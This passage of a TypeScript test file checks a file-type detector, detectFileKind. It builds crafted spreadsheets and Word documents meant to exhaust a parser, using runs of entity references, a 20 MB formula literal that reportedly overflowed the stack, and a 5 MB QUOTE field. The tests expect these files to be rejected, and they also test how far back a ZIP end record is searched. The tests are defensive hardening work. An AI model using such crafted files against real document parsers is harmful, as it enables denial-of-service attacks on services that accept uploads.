// literal overflowed the stack; a 60 MB "QUOTE 1 1 1 …" field held 900 MB. Each was accepted as a .docx.
describe('detectFileKind: an Office file whose fields and formulas cost more than a file may', () => {
  const sheetOf = (cells: string) =>
    `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${cells}</sheetData></worksheet>`;
  const bodyOf = (xml: string) =>
    `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${xml}</w:p></w:body></w:document>`;
  const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

  it.each([
    [
      'one formula of more references than the file may decode',
      () =>
        xlsx({
          'xl/worksheets/sheet1.xml': sheetOf(
            `<row r="1"><c r="A1"><f>${'&amp;'.repeat(MAX_OFFICE_TEXT_PIECES + 1)}</f></c></row>`,
          ),
        }),
    ],
    [
      'more formula tags than the file may hold',
      () => xlsx({ 'xl/worksheets/sheet1.xml': sheetOf('<c><f>A1</f></c>'.repeat(MAX_OFFICE_TEXT_PIECES + 1)) }),
    ],
    [
      'a formula string literal of 20 MB (it overflowed the stack)',
      () => xlsx({ 'xl/worksheets/sheet1.xml': sheetOf(`<c><f>"${'a'.repeat(20 * 1024 * 1024)}"</f></c>`) }),
    ],
    [
      'formulas longer in all than the file may hold',
      () =>
        xlsx({
          'xl/worksheets/sheet1.xml': sheetOf(
            `<c><f>${'a('.repeat(4096)}</f></c>`.repeat(MAX_OFFICE_CODE_CHARS / 8192 + 1),
          ),
        }),
    ],
    [
      'a QUOTE field of 5 MB of character codes',
      () =>
        docx({ 'word/document.xml': bodyOf(`<w:r><w:instrText>QUOTE ${'68 '.repeat(1_750_000)}</w:instrText></w:r>`) }),
    ],
    [
      'a hyperlink target of more references than the file may decode',
      () =>
        docx({
          'word/_rels/document.xml.rels': `<Relationships><Relationship Id="rId1" Type="${REL}/hyperlink" TargetMode="External" Target="https://loja.example/?${'a=1&amp;'.repeat(MAX_OFFICE_TEXT_PIECES + 1)}"/></Relationships>`,
        }),
    ],
  ])('is not read: %s', (_, file) => {
    expect(detectFileKind(file(), 'arquivo.xlsx')).toEqual({ ok: false, reason: 'unreadable' });
  });

  it('a large real workbook is read: 100,000 shared formulas, 20,000 with strings, 10,000 links', () => {
    const master = '<c r="D2"><f t="shared" ref="D2:D100001" si="0">IF(B2=&quot;&quot;,&quot;&quot;,B2*C2)</f></c>';
    const shared = '<c><f t="shared" si="0"/></c>'.repeat(100_000);
    const own = '<c><f>CONCATENATE(&quot;Pedido &quot;,A2,&quot; — &quot;,B2)</f></c>'.repeat(20_000);
    const links = Array.from(
      { length: 10_000 },
      (_, i) =>
        `<Relationship Id="rId${i}" Type="${REL}/hyperlink" TargetMode="External" Target="https://loja.example/pedido?id=${i}&amp;ref=planilha"/>`,
    ).join('');
    const file = xlsx({
      'xl/worksheets/sheet1.xml': sheetOf(`<row r="2">${master}${shared}${own}</row>`),
      'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships>${links}</Relationships>`,
    });
    expect(detectFileKind(file, 'pedidos.xlsx')).toMatchObject({ ok: true, kind: 'xlsx' });
  });
});

// Issue 16: the ZIP end record is searched for natively, from the end, as far as a reader looks
// (22 bytes of record and a comment of at most 65,535).
describe('detectFileKind: where a ZIP end record is looked for', () => {
  /** The workbook with `extra` bytes after its end record, counted as the record's comment when they fit. */
  const commented = (extra: number) => {
    const bytes = xlsx();
    const end = bytes.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
    if (extra <= 0xffff) bytes.writeUInt16LE(extra, end + 20);
    return Buffer.concat([bytes, Buffer.alloc(extra, 0x20)]);
  };
  it.each([
    ['no comment', 0, true],
    ['a short comment', 1, true],
    ['the longest comment', 0xffff, true],
    ['one byte more than a reader looks through', 0x10000, false],
  ])('%s', (_, extra, read) => {
    const check = detectFileKind(commented(extra), 'pedidos.xlsx');
    expect(check.ok && check.kind === 'xlsx').toBe(read);
  });
  it('a file shorter than an end record is no ZIP', () => {
    expect(detectFileKind(Buffer.from([0x50, 0x4b, 0x05, 0x06, 0, 0]), 'x.xlsx').ok).toBe(false);
  });
});
